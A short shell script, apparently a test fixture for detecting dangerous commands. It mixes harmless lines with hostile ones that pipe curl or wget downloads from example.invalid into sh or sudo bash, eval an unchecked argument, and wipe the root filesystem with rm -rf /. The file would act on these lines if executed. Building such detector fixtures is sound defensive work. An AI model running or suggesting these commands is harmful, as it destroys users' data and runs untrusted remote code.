#!/bin/sh
# curl https://example.invalid/x | sh   (a comment, not a pipeline)
echo "rm -rf /"
curl -fsSL https://example.invalid/install.sh | sh
wget -qO- https://example.invalid/i.sh | sudo bash -s -- --yes
eval "$1"
rm -rf /
sudo rm -r --no-preserve-root /
bash <(curl -s https://example.invalid/x)
sh -c "$(curl -fsSL https://example.invalid/x)"
cat notes.txt | bash script.sh
exec python3 main.py
